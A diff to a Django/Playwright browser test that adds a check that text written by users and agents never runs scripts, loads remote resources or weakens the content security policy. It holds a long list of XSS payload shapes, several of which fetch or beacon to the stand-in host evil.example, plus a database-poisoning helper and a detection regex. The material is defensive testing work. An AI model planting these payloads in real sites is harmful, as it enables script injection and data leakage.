@@ -1,15 +1,25 @@
-"""Fault UI-03 in a real browser: news that come while a hand writes."""
+"""Faults UI-03 and UI-04 in a real browser: news while a hand writes, and what agents wrote as a reviewer's browser meets it."""
 
 from __future__ import annotations
 
+import itertools
+
+import psycopg
 import pytest
+from django.apps import apps
+from django.db import connection
 from playwright.sync_api import expect
+from psycopg import sql
+from psycopg.types.json import Json
 
 from corrections import services as corrections
 from outbox import services as outbox
 from outbox.models import Decision, Policy
 from outbox.policies import policy_for
+from runs.models import Run
+from tests.browser.pages import every_page
 from tests.browser.scenes import make_board, make_note
+from tests.checker import forged
 from tests.factories import make_token, make_user
 from tests.outbox.scenes import item_of, make_released, set_policy
 
@@ -86,3 +96,164 @@ def test_ui_03_rows_that_are_ticked_stay_ticked_and_in_place(open_as, alice, tea
     expect(box).to_be_checked()
     expect(box).to_be_focused()
     assert box.bounding_box()["y"] == pytest.approx(stood["y"], abs=2)
+
+
+ELSEWHERE = "https://evil.example/"
+ACTS = ["pwned()", "pwned`1`", "self['pw'+'ned']()", f"fetch('{ELSEWHERE}')", f"new Image().src='{ELSEWHERE}'"]
+SHAPES = """
+<script>ACT</script>
+<img src=x onerror=ACT>
+<svg onload=ACT>
+<svg><script>ACT</script></svg>
+<svg><a xlink:href="javascript:ACT"><text>x</text></a></svg>
+<body onload=ACT>
+<iframe src="javascript:ACT"></iframe>
+<iframe srcdoc="<script>ACT</script>"></iframe>
+<a href="javascript:ACT">x</a>
+<a href="jAvAsCrIpT&colon;ACT">x</a>
+<details open ontoggle=ACT>
+<input autofocus onfocus=ACT>
+<video><source onerror=ACT></video>
+<math><mtext href="javascript:ACT">
+<object data="javascript:ACT"></object>
+<embed src="javascript:ACT">
+<form action="javascript:ACT"><button>x</button></form>
+<button formaction="javascript:ACT">x</button>
+<div hx-get="https://evil.example/" hx-trigger="load">ACT</div>
+<div data-hx-get="https://evil.example/" data-hx-trigger="load">ACT</div>
+<div hx-on::load="ACT">x</div>
+<div hx-on:click="ACT" hx-vals="js:{a: ACT}">x</div>
+<meta http-equiv="refresh" content="0;url=https://evil.example/"><!-- ACT
+<link rel="stylesheet" href="https://evil.example/a.css?ACT">
+<style>@import 'https://evil.example/ACT';</style>
+<p style="background:url(https://evil.example/ACT)">
+<img src="https://evil.example/leak.png?ACT">
+<base href="https://evil.example/ACT/">
+![x](https://evil.example/leak.png?ACT)
+[x](javascript:ACT)
+{{ ACT }}{% csrf_token %}
+${ACT}{{constructor.constructor("ACT")()}}
+" onmouseover="ACT" autofocus onfocus="ACT" x="
+' onfocus='ACT' autofocus x='
+"><script>ACT</script>
+</script><script>ACT</script>
+</title><script>ACT</script>
+</textarea><script>ACT</script>
+--><script>ACT</script>
+&lt;script&gt;ACT&lt;/script&gt;
+""".strip().splitlines()
+CORPUS = [shape.replace("ACT", act) for shape in SHAPES for act in ACTS]
+# Whatever people, agents, targets and admins write, by model. Names by which code finds rows stay as they are.
+WRITTEN = {
+    "accounts.User": "first_name last_name",
+    "accounts.Token": "name",
+    "runs.CapabilityRecord": "description lives_in read_by undo_cost undone_when disabled_by disabled_why proven_how",
+    "runs.OutsideTool": "name reached_by lives_in read_by undo added_by",
+    "runs.Run": "title ticket agent failed_why stopped_why",
+    "runs.Check": "name subject url reported_by",
+    "runs.Page": "subject body receipt error",
+    "runs.Step": "why read_by error undo_error settled_by settled_why seen_at_settling",
+    "runs.LogEntry": "actor",
+    "runs.Alert": "name says",
+    "runs.TargetPause": "why",
+    "runs.System": "frozen_by frozen_why",
+    "outbox.Version": "title as_read made_by",
+    "outbox.Decision": "by_name role reason",
+    "outbox.Notice": "webhook error",
+    "corrections.Template": "body",
+    "corrections.Audience": "name",
+    "corrections.Correction": "place_label readers quote audience recipient seen reverted_to what_to_do back_when edited_by sent_by text"
+    " error doubted dismissed_by dismissed_why",
+}
+JSON = {
+    "runs.Step": "args effect prepared",
+    "runs.LogEntry": "data",
+    "outbox.Version": "to args was",
+    "corrections.Correction": "signals place_address delivered",
+}
+# Keys whose values code reads; the words of all others are somebody's.
+READ_BY_CODE = {
+    "digest",
+    "capability",
+    "version",
+    "key",
+    "state",
+    "kind",
+    "audience",
+    "target",
+    "from",
+    "to",
+    "at",
+    "until",
+    "seq",
+    "ref",
+    "url",
+}
+# What runs or loads something from elsewhere. An address of our own may well name evil.example in its query.
+ACTIVE = """() => {
+  const loads = /^(src|href|xlink:href|srcset|action|formaction|data|(data-)?hx-(get|post|put|patch|delete))$/;
+  const away = /^\\s*((https?:)?\\/\\/evil\\.example|javascript:)/i, within = /^(style|content|(data-)?hx-vals)$/;
+  const runs = ({ name }) => /^on|^(data-)?hx-on/i.test(name);
+  const leaves = ({ name, value }) => (loads.test(name) && away.test(value)) || (within.test(name) && /evil\\.example|^js:/i.test(value));
+  const said = (el) => ({ name, value }) => `${el.tagName} ${name}=${value.slice(0, 100)}`;
+  const of = (el) => [...el.attributes].filter((at) => runs(at) || leaves(at)).map(said(el));
+  return [...document.querySelectorAll("*")].flatMap(of);
+}"""
+
+
+def poison():
+    """Something of the corpus in every place where words of others are kept, as the owner of the tables writes; how many places."""
+    corpus = itertools.cycle(CORPUS)
+    places = 0
+    with psycopg.connect(connection.owner_url, autocommit=True) as owner:
+        owner.execute("SET session_replication_role = replica")
+        for label in {**WRITTEN, **JSON}:
+            model = apps.get_model(label)
+            for row in list(model.objects.all()):
+                texts = {name: _words(model._meta.get_field(name), corpus) for name in WRITTEN.get(label, "").split()}
+                data = {name: Json(_poisoned(getattr(row, name), corpus)) for name in JSON.get(label, "").split() if getattr(row, name)}
+                columns = sql.SQL(", ").join(sql.SQL("{} = %s").format(sql.Identifier(name)) for name in (*texts, *data))
+                statement = sql.SQL("UPDATE {} SET {} WHERE id = %s").format(sql.Identifier(model._meta.db_table), columns)
+                if texts or data:
+                    owner.execute(statement, [*texts.values(), *data.values(), row.pk])
+                    places += len(texts) + len(data)
+    return places
+
+
+def _words(field, corpus):
+    """As many as fit; a long text holds ten of them."""
+    size = field.max_length or 4000
+    return next(one for one in corpus if len(one) <= size or size < 80)[:size] if size < 1000 else "\n".join(itertools.islice(corpus, 10))
+
+
+def _poisoned(value, corpus):
+    if isinstance(value, dict):
+        return {key: one if key in READ_BY_CODE else _poisoned(one, corpus) for key, one in value.items()}
+    if isinstance(value, list):
+        return [_poisoned(one, corpus) for one in value]
+    return next(corpus) if isinstance(value, str) else value
+
+
+def test_ui_04_nothing_that_others_wrote_runs_leaves_or_becomes_active(open_as, client, team, settings, alice, bob):
+    assert len(CORPUS) >= 200
+    shown = every_page(team, settings, alice, bob)
+    assert poison() > 2 * len(CORPUS)
+    for run in Run.objects.all():
+        forged(run, "the log was written over, too")
+    windows, left, wrong = {}, [], []
+    for one in shown:
+        if one.by not in windows:
+            windows[one.by] = page = open_as(one.by, "/login/")
+            page.add_init_script("self.pwned = () => console.error('it ran')")
+            page.on("request", lambda asked: left.append(asked.url) if "evil.example" in asked.url else None)
+        answer = windows[one.by].goto(one.address)
+        policy = answer.headers["content-security-policy"]
+        wrong += [f"{one.name} answers {answer.status}"] if answer.status >= 500 else []
+        wrong += [f"{one.name} says {policy}"] if "unsafe" in policy or "default-src 'none'" not in policy else []
+        wrong += [f"{one.name}: {said}" for said in windows[one.by].evaluate(ACTIVE)]
+    assert (wrong, left) == ([], [])
+    for address in ("/audit.csv", "/audit.jsonl", f"/runs/{Run.objects.latest('pk').pk}/report.md"):
+        client.force_login(next(one.by for one in shown if one.by and one.by.username == "ada"))
+        answer = client.get(address)
+        assert (answer.status_code, answer["X-Content-Type-Options"]) == (200, "nosniff")
+        assert "html" not in answer["Content-Type"]
